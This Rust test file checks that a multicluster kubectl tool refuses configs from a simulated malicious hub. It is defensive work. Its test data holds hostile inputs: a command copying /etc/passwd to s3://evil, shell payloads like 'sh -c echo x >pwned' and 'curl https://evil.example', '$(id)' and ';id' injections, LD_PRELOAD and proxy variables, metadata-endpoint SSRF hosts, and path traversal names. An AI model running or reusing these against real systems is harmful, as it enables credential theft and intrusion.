//! An evil hub, at the level of processes: whatever it publishes about a member, nothing runs, no credential leaves and
//! no file is touched, and the message names the rule and how to allow it.
//!
//! PATH has only tripwires, which record that they ran; each member's server, which records the requests that it is
//! sent, is the evil one; and the whole of the user's home is compared before and after.

use crate::fleet::{Fault, Fleet, Member, Spec};
use crate::standins::Standins;
use crate::support::Home;
use crate::support::access::{CONFIG, eks, fleet, result, results};
use crate::support::evil::{ALLOWED, Row, User, stopped};
use serde_json::{Value, json};

fn at(provider: &str, server: &str) -> Value {
    json!([{"name": provider, "cluster": {"server": server, "certificate-authority-data": "@ca@"}}])
}

fn of_eks(field: &str, value: Value) -> Value {
    json!([{"name": "eks", "cluster": {"server": "@server@", field: value}}])
}

fn exec(command: &str, args: &str) -> Value {
    json!({"auth.exec.command": command, "auth.exec.args": args, "region": "eu-west-1"})
}

fn region() -> Value {
    json!({"region": "eu-west-1"})
}

#[test]
fn evil_hub_commands_and_arguments() {
    let eks = || at("eks", "@server@");
    let arguments = [
        "s3,cp,/etc/passwd,s3://evil",
        "eks,get-token,--endpoint-url,https://evil.example",
        "eks,get-token,--endpoint-url=https://evil.example",
        "eks,get-token,--profile,root",
        "eks,get-token,--role-arn,arn:aws:iam::1:role/x",
        "eks,get-token,--no-verify-ssl",
        "eks,get-token,--debug",
        "eks,get-token,--cluster-name,a;id",
        "eks,get-token,--cluster-name,file:///etc/passwd",
        "eks,get-token,--region,$(id)",
        "eks,get-token,--region,eu-west-1.evil.example",
        "configure,set,credential_process,id",
    ];
    let mut rows: Vec<Row> = arguments
        .iter()
        .map(|args| ("arguments", eks(), exec("aws", args)))
        .collect();
    rows.extend([
        ("command", eks(), exec("/bin/sh", "-c,echo x >pwned")),
        ("command", eks(), exec("sh", "-c,id")),
        ("command", eks(), exec("../trip/aws", "eks,get-token")),
        ("command", eks(), exec("./aws", "eks,get-token")),
        ("command", eks(), exec("/usr/bin/aws", "eks,get-token")),
        ("command", eks(), exec("aws\n", "")),
        ("command", eks(), exec("aws ", "eks,get-token")),
        ("command", eks(), exec("AWS", "eks,get-token")),
        ("command", eks(), exec("aws\u{0}", "eks,get-token")),
        ("command", eks(), exec("a\u{1b}]0;owned\u{7}ws", "")),
        ("command", eks(), exec("env", "aws,eks,get-token")),
        ("command", eks(), exec("my-plugin", "token,--cluster,-x")),
        ("command", eks(), exec("my-plugin", "token,--cluster,a,--more")),
        ("command", eks(), exec("my-plugin", "token,--cluster")),
        ("command", eks(), exec("corp-login", "token")),
        ("arguments", eks(), json!({"region": "eu-west-1; id"})),
        ("arguments", eks(), json!({"region": "--endpoint-url=https://evil.example/a-b"})),
        ("arguments", eks(), json!({"region": "eu-west-1", "cluster.name": "../../etc"})),
        ("arguments", eks(), json!({"region": "eu-west-1", "cluster.name": "-x"})),
        ("arguments", eks(), json!({"region": "eu-west-1", "cluster.name": "a\u{1b}[2J"})),
        ("arguments", eks(), json!({"region": "eu-west-1", "auth.exec.apiVersion": "v9"})),
        ("arguments", at("gke", "@server@"), exec("gke-gcloud-auth-plugin", "--use_application_default_credentials")),
        ("arguments", at("gke", "@server@"), exec("gke-gcloud-auth-plugin", "--impersonate_service_account=x")),
        ("arguments", at("aks", "@server@"), exec("kubelogin", "get-token,--login,spn,--client-secret,x")),
        (
            "arguments",
            at("aks", "@server@"),
            exec("kubelogin", "get-token,--server-id,00000003-0000-0000-c000-000000000000"),
        ),
        ("arguments", at("aks", "@server@"), exec("kubelogin", "convert-kubeconfig")),
        ("arguments", at("aks", "@server@"), exec("kubelogin", "get-token,--authority-host,https://evil.example")),
        ("arguments", at("aks", "@server@"), json!({"tenant.id": "$(id)"})),
        // A kubeconfig's exec is not allowed here, in an extension neither.
        (
            "",
            json!([{"name": "x", "cluster": {"server": "@server@", "exec": {"command": "sh"}, "extensions": [
                {"name": "client.authentication.k8s.io/exec", "extension": {"command": "/bin/sh", "args": ["-c", "echo x >pwned"]}}]},
                "exec": {"command": "sh"}, "user": {"exec": {"command": "sh"}, "token": "x"}}]),
            json!({}),
        ),
    ]);
    stopped(&rows, ALLOWED);
}

#[test]
fn evil_hub_additions_to_the_users_plugin() {
    let extension = |name: &str, value: Value| {
        let name = format!("clusterprofiles.multicluster.x-k8s.io/exec/{name}");
        json!([{"name": "corp", "cluster": {"server": "@server@", "extensions": [{"name": name, "extension": value}]}}])
    };
    let variables = [
        "PATH",
        "path",
        "HOME",
        "LD_PRELOAD",
        "LD_LIBRARY_PATH",
        "DYLD_INSERT_LIBRARIES",
        "BASH_ENV",
        "ENV",
        "IFS",
        "PYTHONPATH",
        "PYTHONSTARTUP",
        "NODE_OPTIONS",
        "PERL5OPT",
        "RUBYOPT",
        "JAVA_TOOL_OPTIONS",
        "GIT_SSH_COMMAND",
        "https_proxy",
        "HTTPS_PROXY",
        "ALL_PROXY",
        "SSL_CERT_FILE",
        "AWS_CA_BUNDLE",
        "REQUESTS_CA_BUNDLE",
        "AWS_ENDPOINT_URL_STS",
        "AWS_CONFIG_FILE",
        "AWS_SHARED_CREDENTIALS_FILE",
        "GOOGLE_APPLICATION_CREDENTIALS",
        "CLOUDSDK_CONFIG_DIR",
        "CLOUDSDK_PYTHON",
        "AZURE_CONFIG_DIR",
        "AZURE_AUTHORITY_HOST",
        "KUBECONFIG",
        "KUBERNETES_EXEC_INFO",
        "BROWSER",
        "PAGER",
        "TMPDIR",
        "ERL_FLAGS",
        "NLSPATH",
        "NETRC",
        "VIMINIT",
        "MAKEFLAGS",
        "AWS_ACCESS_KEY_ID",
        "CLOUDSDK_AUTH_ACCESS_TOKEN",
        "A=B",
        "",
        "1A",
        "A B",
        "A\nB",
    ];
    let mut rows: Vec<Row> = variables
        .iter()
        .map(|name| {
            (
                "environment",
                extension("additional-envs", json!({*name: "/tmp/x"})),
                json!({}),
            )
        })
        .collect();
    rows.extend([
        (
            "environment",
            extension("additional-envs", json!({"CLUSTER_NAME": "a\u{0}b"})),
            json!({}),
        ),
        (
            "arguments",
            extension("additional-args", json!(["a\u{0}b"])),
            json!({}),
        ),
        (
            "arguments",
            extension("additional-args", json!(["a\nb"])),
            json!({}),
        ),
        ("malformed", extension("additional-envs", json!([1])), json!({})),
        (
            "malformed",
            extension("additional-envs", json!({"A": 1})),
            json!({}),
        ),
        ("malformed", extension("additional-args", json!("x")), json!({})),
        (
            "malformed",
            extension("additional-args", json!([["x"]])),
            json!({}),
        ),
        (
            "size",
            extension("additional-args", json!(vec!["x"; 65])),
            json!({}),
        ),
        (
            "size",
            extension("additional-args", json!(["x".repeat(5000)])),
            json!({}),
        ),
    ]);
    stopped(&rows, ALLOWED);
}

#[test]
fn evil_hub_server_proxy_and_trust() {
    let pem = |text: &str| {
        use base64::Engine as _;
        json!(base64::engine::general_purpose::STANDARD.encode(text))
    };
    let eks = |server: &str| at("eks", server);
    let rows: Vec<Row> = vec![
        ("http", eks("http://127.0.0.1:80"), region()),
        ("http", eks("HTTP://a.eks.amazonaws.com"), region()),
        ("server", eks("127.0.0.1:6443"), region()),
        ("server", eks("file:///etc/passwd"), region()),
        ("server", eks("unix:///run/x.sock"), region()),
        ("server", eks("//127.0.0.1"), region()),
        ("server", eks("https://"), region()),
        ("server", eks("https://user:s3cret-of-theirs@127.0.0.1"), region()),
        ("server", eks("https://a.eks.amazonaws.com@127.0.0.1"), region()),
        ("server", eks("https://127.0.0.1\\.eks.amazonaws.com"), region()),
        ("server", eks("https://127.0.0.1/\r\nx: y"), region()),
        ("server", eks("https://127.0.0.1/\u{0}"), region()),
        ("server", eks("https://127.0.0.1/?.eks.amazonaws.com"), region()),
        ("server", eks("https://127.0.0.1/#.eks.amazonaws.com"), region()),
        ("server", of_eks("tls-server-name", json!("a b")), region()),
        ("server", of_eks("tls-server-name", json!("a\r\nb")), region()),
        (
            "insecure",
            of_eks("insecure-skip-tls-verify", json!(true)),
            region(),
        ),
        (
            "insecure",
            of_eks("insecure-skip-tls-verify", json!("true")),
            region(),
        ),
        ("insecure", of_eks("insecure-skip-tls-verify", json!(1)), region()),
        (
            "proxy",
            of_eks("proxy-url", json!("http://evil.example:3128")),
            region(),
        ),
        ("proxy", of_eks("proxy-url", json!("@server@")), region()),
        ("proxy", of_eks("proxy-url", json!({"a": 1})), region()),
        (
            "ca-path",
            of_eks("certificate-authority", json!("/etc/passwd")),
            region(),
        ),
        (
            "ca-path",
            of_eks("certificate-authority", json!("../../secret")),
            region(),
        ),
        ("ca", of_eks("certificate-authority-data", json!("%%%")), region()),
        (
            "ca",
            of_eks("certificate-authority-data", pem("not a certificate")),
            region(),
        ),
        (
            "size",
            of_eks("certificate-authority-data", json!("A".repeat(300_000))),
            region(),
        ),
        (
            "size",
            eks(&format!("https://{}.eks.amazonaws.com", "a".repeat(3000))),
            region(),
        ),
        ("size", json!([{"name": "x".repeat(1_100_000)}]), region()),
        (
            "size",
            json!(
                (0..101)
                    .map(|number| json!({"name": format!("p-{number}")}))
                    .collect::<Vec<_>>()
            ),
            region(),
        ),
        (
            "malformed",
            json!([{"name": "eks", "cluster": "https://x"}]),
            region(),
        ),
        (
            "malformed",
            json!([{"name": "eks", "cluster": {"server": ["https://x"]}}]),
            region(),
        ),
        (
            "malformed",
            json!([{"name": "eks", "cluster": {"server": "@server@", "extensions": {}}}]),
            region(),
        ),
        ("", json!([{"name": "eks"}]), region()),
        ("", json!([{"name": "eks", "cluster": {"server": ""}}]), region()),
        ("", json!([]), region()),
    ];
    stopped(&rows, ALLOWED);
}

#[test]
fn evil_hub_hosts_that_no_pattern_allows() {
    let hosts = [
        "@server@",
        "https://localhost:6443",
        "https://[::1]:6443",
        "https://[fe80::1]",
        "https://[::ffff:127.0.0.1]:6443",
        "https://0.0.0.0:6443",
        "https://2130706433",
        "https://0x7f.1",
        "https://127.1",
        "https://169.254.169.254/latest/meta-data",
        "https://metadata.google.internal",
        "https://10.0.0.1",
        "https://evil.example",
        "https://eks.amazonaws.com",
        "https://eks.amazonaws.com.evil.example",
        "https://a.eks.amazonaws.com.evil.example",
        "https://evil-eks.amazonaws.com",
        "https://a.gr7.eu-west-1.eks.amazonaws.com.",
    ];
    // A trailing dot means the same host, which is allowed.
    let mut rows: Vec<Row> = hosts[..hosts.len() - 1]
        .iter()
        .map(|host| ("host", at("eks", host), region()))
        .collect();
    rows.extend([
        (
            "host",
            at("gke", "https://A1.gr7.eu-west-1.eks.amazonaws.com"),
            json!({}),
        ),
        ("host", at("aks", "https://a.gke.goog"), json!({})),
        (
            "host",
            at("corp", "https://A1.gr7.eu-west-1.eks.amazonaws.com"),
            json!({}),
        ),
        // The hub's own credentials, at another host than the hub's.
        (
            "host",
            at("open-cluster-management", "https://evil.example/prod"),
            json!({}),
        ),
        (
            "host",
            at("open-cluster-management", "https://127.0.0.1.evil.example/prod"),
            json!({}),
        ),
        (
            "host",
            at("open-cluster-management", "https://localhost/prod"),
            json!({}),
        ),
    ]);
    stopped(&rows, "");
    // A permission is for one provider only.
    stopped(
        &[
            ("host", at("gke", "@server@"), json!({})),
            ("host", at("corp", "@server@"), json!({})),
        ],
        "access: {allowedHosts: {eks: [127.0.0.1]}}\n",
    );
}

#[test]
fn evil_hub_names_and_objects() {
    let profile = |name: &str, status: Value| {
        json!({"metadata": {"name": name, "namespace": "x"}, "spec": {"clusterManager": {"name": "m"}}, "status": status})
            .to_string()
    };
    let access = json!({"accessProviders": at("eks", "https://127.0.0.1:1"), "properties": [{"name": "region", "value": "eu-west-1"}]});
    let names = [
        "../../../../secret",
        "..",
        ".",
        "a/b",
        "/etc/passwd",
        "a\nb",
        "a\u{1b}[2Jb",
        "a\u{0}b",
        "",
        "a\u{202e}b",
        "-x",
        "--kubeconfig=/tmp/x",
        "\u{7f}",
    ];
    let mut profiles: Vec<String> = names.iter().map(|name| profile(name, access.clone())).collect();
    profiles.push(profile(&"x".repeat(5000), access.clone()));
    profiles.push(profile("list", json!({"accessProviders": {"name": "eks"}})));
    profiles.push(profile("text", json!({"accessProviders": "eks"})));
    profiles.push(profile("status", json!("up")));
    profiles.push("{\"metadata\": 7}".to_owned());
    profiles.push("{}".to_owned());
    let spec = Spec {
        extra_profiles: profiles,
        ..fleet([])
    };
    let user = User::of(Fleet::start(spec), ALLOWED);
    let [records, whole, ..] = user.unharmed([
        "@mc@/mc-discover",
        "@mc@/kubectl-mc get pods -A -v",
        "@mc@/mc-discover --refresh | @mc@/mc-exec get pods -A",
        "@mc@/kubectl-mc doctor",
        "@mc@/kubectl-mc clusters",
    ]);
    let is_problem = |line: &str| line.starts_with(r#"{"kind":"Problem","stage":"mc-discover","#);
    assert!(records.stdout.lines().all(is_problem), "{records:?}");
    assert_eq!(whole.status, 1, "{whole:?}");
    for words in ["is refused", "is left out", "it has no name"] {
        assert!(records.stderr.contains(words), "{words}: {}", records.stderr);
    }
}

/// Records that were not written by mc-discover and mc-resolve.
#[test]
fn forged_records_are_judged_like_the_hubs() {
    let fleet = Fleet::start(fleet([eks("a")]));
    let server = fleet.member("a").server().to_owned();
    let user = User::of(fleet, ALLOWED);
    let accesses = [
        (
            "command",
            json!({"provider": "eks", "server": server, "plugin": {"command": "/bin/sh", "args": ["-c", "echo x >pwned"]}}),
        ),
        (
            "command",
            json!({"provider": "eks", "server": server, "plugin": {"command": "curl", "args": ["https://evil.example"]}}),
        ),
        ("command", json!({"provider": "unknown", "server": server})),
        (
            "arguments",
            json!({"provider": "eks", "server": server, "plugin": {"command": "aws", "args": ["s3", "ls"]}}),
        ),
        (
            "arguments",
            json!({"provider": "eks", "server": server, "plugin": {"command": "aws", "args": ["eks", "get-token"]}}),
        ),
        (
            "environment",
            json!({"provider": "corp", "server": server, "plugin": {"env": {"LD_PRELOAD": "/tmp/x"}}}),
        ),
        (
            "host",
            json!({"provider": "eks", "server": "https://evil.example", "user": "hub"}),
        ),
        (
            "http",
            json!({"provider": "eks", "server": "http://127.0.0.1", "user": "hub"}),
        ),
        (
            "ca",
            json!({"provider": "eks", "server": server, "user": "hub", "certificateAuthorityData": "%%"}),
        ),
    ];
    for (rule, access) in accesses {
        let record = json!({"kind": "Cluster", "cluster": "a", "access": access}).to_string();
        user.home.write("home/records", &format!("{record}\n"));
        let [outcome] = user.unharmed(["@mc@/mc-exec get pods -A -o ndjson <records"]);
        let results = results(&outcome.stdout);
        let message = result(&results, "a")["message"].as_str().unwrap();
        assert!(
            message.contains(&format!("(rule {rule:?})")),
            "{access}: {message}"
        );
    }
}

/// A server that is allowed and redirects: the token must not be sent to the other server.
#[test]
fn redirect_is_not_followed() {
    let fleet = Fleet::start(fleet([Member {
        fault: Fault::Redirect,
        ..eks("a")
    }]));
    let home = Home::of(&fleet);
    home.write(CONFIG, ALLOWED);
    Standins::in_home(home.path());
    fleet.hub().counters().reset();
    let outcome = home.shell("PATH=\"$HOME/bin:$PATH\" kubectl-mc get pods -A -v");
    assert_eq!(outcome.status, 1, "{outcome:?}");
    assert!(
        outcome.stderr.contains("redirects to 127.0.0.1 (status 302)"),
        "{}",
        outcome.stderr
    );
    assert!(!fleet.member("a").counters().seen().is_empty());
    for request in fleet.hub().counters().seen() {
        assert_eq!(
            request.header("authorization"),
            Some("Bearer hub-token"),
            "{request:?}"
        );
    }
}

/// Shows that the tripwires work: with a harmless hub the user's plugin runs, and is recorded.
#[test]
fn tripwires_work() {
    let fleet = Fleet::start(fleet([eks("a")]));
    let user = User::of(fleet, ALLOWED);
    let before = user.files();
    user.run("@mc@/kubectl-mc get pods -A");
    assert!(
        user.tripped()
            .contains("/trip/aws --region eu-west-1 eks get-token"),
        "{}",
        user.tripped()
    );
    assert_ne!(user.files(), before);
}
